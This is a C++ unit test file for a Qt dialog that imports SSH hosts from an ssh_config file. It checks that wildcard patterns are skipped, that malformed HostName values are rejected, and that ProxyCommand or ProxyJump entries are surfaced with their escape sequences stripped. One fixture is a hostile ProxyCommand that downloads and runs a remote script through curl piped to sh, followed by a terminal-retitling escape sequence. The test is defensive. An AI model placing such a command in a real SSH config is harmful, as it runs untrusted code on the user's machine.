#include "ui/SshImportDialog.h"

#include <QDir>
#include <QFile>
#include <QLabel>
#include <QPushButton>
#include <QTemporaryDir>
#include <QTreeWidget>

#include <gtest/gtest.h>

using namespace shardscope;
using ui::SshImportDialog;

namespace {

QString writeConfig(const QTemporaryDir &dir)
{
    const QString path = dir.filePath(QStringLiteral("ssh_config"));
    QFile file(path);
    if (!file.open(QIODevice::WriteOnly))
        return {};
    file.write("Host node1\n"
               "    HostName 10.0.0.1\n"
               "    Port 2201\n"
               "    User pi\n"
               "Host gpu-box\n"
               "    HostName 10.0.0.2\n"
               "Host build-*\n"
               "    User builder\n"
               "Host taken\n"
               "    HostName 10.0.0.9\n");
    return path;
}

struct ImportFixture {
    explicit ImportFixture(const QStringList &taken)
        : dialog(taken)
    {
        list = dialog.findChild<QTreeWidget *>(QStringLiteral("importList"));
        import = dialog.findChild<QPushButton *>(QStringLiteral("importButton"));
        message = dialog.findChild<QLabel *>(QStringLiteral("importMessage"));
    }
    SshImportDialog dialog;
    QTreeWidget *list = nullptr;
    QPushButton *import = nullptr;
    QLabel *message = nullptr;
};

} // namespace

TEST(GuiSshImportDialog, ListsMachinesAndImportsOnlyTheCheckedOnes)
{
    QTemporaryDir dir;
    ASSERT_TRUE(dir.isValid());
    const QString config = writeConfig(dir);
    ASSERT_FALSE(config.isEmpty());

    ImportFixture f({QStringLiteral("Taken")});
    ASSERT_TRUE(f.list && f.import && f.message);
    f.dialog.load(config);
    // The pattern build-* is not a machine.
    ASSERT_EQ(f.list->topLevelItemCount(), 3);
    EXPECT_EQ(f.list->topLevelItem(0)->text(SshImportDialog::ColumnName), QStringLiteral("node1"));
    EXPECT_EQ(f.list->topLevelItem(0)->text(SshImportDialog::ColumnAddress), QStringLiteral("10.0.0.1"));
    EXPECT_EQ(f.list->topLevelItem(0)->text(SshImportDialog::ColumnPort), QStringLiteral("2201"));
    EXPECT_EQ(f.list->topLevelItem(0)->text(SshImportDialog::ColumnUser), QStringLiteral("pi"));
    EXPECT_EQ(f.list->topLevelItem(1)->text(SshImportDialog::ColumnName), QStringLiteral("gpu-box"));
    // Already added: shown, but cannot be checked.
    QTreeWidgetItem *taken = f.list->topLevelItem(2);
    EXPECT_TRUE(taken->text(SshImportDialog::ColumnName).contains(QStringLiteral("already added")));
    EXPECT_FALSE(taken->flags() & Qt::ItemIsEnabled);

    // Nothing is checked at first: a config often lists machines that are no nodes.
    EXPECT_FALSE(f.import->isEnabled());
    EXPECT_TRUE(f.dialog.checkedRecords().isEmpty());
    f.list->topLevelItem(1)->setCheckState(SshImportDialog::ColumnName, Qt::Checked);
    EXPECT_TRUE(f.import->isEnabled());
    QList<core::HostRecord> records = f.dialog.checkedRecords();
    ASSERT_EQ(records.size(), 1);
    EXPECT_EQ(records.at(0).name, QStringLiteral("gpu-box"));
    EXPECT_EQ(records.at(0).address, QStringLiteral("10.0.0.2"));
    EXPECT_EQ(records.at(0).port, 22);

    // Check all takes every machine not added yet; checking the taken one does nothing.
    f.dialog.findChild<QPushButton *>(QStringLiteral("checkAllButton"))->click();
    taken->setCheckState(SshImportDialog::ColumnName, Qt::Checked);
    records = f.dialog.checkedRecords();
    ASSERT_EQ(records.size(), 2);
    EXPECT_EQ(records.at(0).name, QStringLiteral("node1"));
    EXPECT_EQ(records.at(0).user, QStringLiteral("pi"));
    EXPECT_EQ(records.at(0).port, 2201);
    EXPECT_EQ(records.at(1).name, QStringLiteral("gpu-box"));

    f.dialog.findChild<QPushButton *>(QStringLiteral("checkNoneButton"))->click();
    EXPECT_TRUE(f.dialog.checkedRecords().isEmpty());
    EXPECT_FALSE(f.import->isEnabled());
}

TEST(GuiSshImportDialog, EntriesThatFailTheHostCheckCannotBeChecked)
{
    QTemporaryDir dir;
    ASSERT_TRUE(dir.isValid());
    const QString path = dir.filePath(QStringLiteral("ssh_config"));
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    // ssh(1) takes "root@10.0.0.3" as HostName; a node record keeps the user apart.
    file.write("Host sneaky\n"
               "    HostName root@10.0.0.3\n");
    file.close();

    ImportFixture f({});
    f.dialog.load(path);
    ASSERT_EQ(f.list->topLevelItemCount(), 1);
    QTreeWidgetItem *item = f.list->topLevelItem(0);
    EXPECT_TRUE(item->text(SshImportDialog::ColumnName).contains(QStringLiteral("cannot be imported")));
    EXPECT_TRUE(item->toolTip(SshImportDialog::ColumnName).contains(QStringLiteral("goes into User")))
        << item->toolTip(SshImportDialog::ColumnName).toStdString();
    EXPECT_FALSE(item->flags() & Qt::ItemIsEnabled);
    f.dialog.findChild<QPushButton *>(QStringLiteral("checkAllButton"))->click();
    EXPECT_TRUE(f.dialog.checkedRecords().isEmpty());
    EXPECT_TRUE(f.message->text().contains(QStringLiteral("cannot use"))) << f.message->text().toStdString();
}

TEST(GuiSshImportDialog, UnreadableFileSaysSoAndImportsNothing)
{
    QTemporaryDir dir;
    ASSERT_TRUE(dir.isValid());
    const QString missing = dir.filePath(QStringLiteral("no-such-config"));
    ImportFixture f({});
    f.dialog.load(missing);
    EXPECT_EQ(f.list->topLevelItemCount(), 0);
    EXPECT_FALSE(f.import->isEnabled());
    EXPECT_TRUE(f.message->text().contains(QDir::toNativeSeparators(missing)))
        << f.message->text().toStdString();
    EXPECT_TRUE(f.message->text().contains(QStringLiteral("Add…")));
}

TEST(GuiSshImportDialog, ProxyCommandAndProxyJumpAreShownBeforeImporting)
{
    QTemporaryDir dir;
    ASSERT_TRUE(dir.isValid());
    const QString path = dir.filePath(QStringLiteral("ssh_config"));
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    // The escape sequence would retitle a terminal; in a table it must not survive either.
    file.write("Host direct\n"
               "    HostName 10.0.0.1\n"
               "Host piped\n"
               "    HostName 10.0.0.2\n"
               "    ProxyCommand sh -c 'curl -s http://example.invalid/x | sh' \x1b]0;ok\x07\n"
               "Host jumpy\n"
               "    HostName 10.0.0.3\n"
               "    ProxyJump admin@bastion:2222\n");
    file.close();

    ImportFixture f({});
    f.dialog.load(path);
    ASSERT_EQ(f.list->topLevelItemCount(), 3);
    EXPECT_TRUE(f.list->topLevelItem(0)->text(SshImportDialog::ColumnProxy).isEmpty());

    const QTreeWidgetItem *piped = f.list->topLevelItem(1);
    const QString command = piped->text(SshImportDialog::ColumnProxy);
    EXPECT_EQ(command, QStringLiteral("ProxyCommand sh -c 'curl -s http://example.invalid/x | sh' "
                                      "\uFFFD]0;ok\uFFFD"));
    EXPECT_TRUE(piped->toolTip(SshImportDialog::ColumnProxy).contains(command))
        << piped->toolTip(SshImportDialog::ColumnProxy).toStdString();
    EXPECT_TRUE(piped->toolTip(SshImportDialog::ColumnProxy).contains(QStringLiteral("trust")));
    EXPECT_EQ(f.list->topLevelItem(2)->text(SshImportDialog::ColumnProxy),
              QStringLiteral("ProxyJump admin@bastion:2222"));
    EXPECT_EQ(f.list->headerItem()->text(SshImportDialog::ColumnProxy),
              QStringLiteral("Runs when connecting"));

    // Said above the list as well, with how many: before anything is checked or imported.
    EXPECT_TRUE(f.message->text().contains(QStringLiteral("ProxyCommand or ProxyJump: 2")))
        << f.message->text().toStdString();
    for (int i = 0; i < f.list->topLevelItemCount(); ++i) {
        for (int column = 0; column < SshImportDialog::ColumnCount; ++column) {
            EXPECT_FALSE(f.list->topLevelItem(i)->text(column).contains(QChar(0x1b)));
            EXPECT_FALSE(f.list->topLevelItem(i)->toolTip(column).contains(QChar(0x1b)));
        }
    }
}
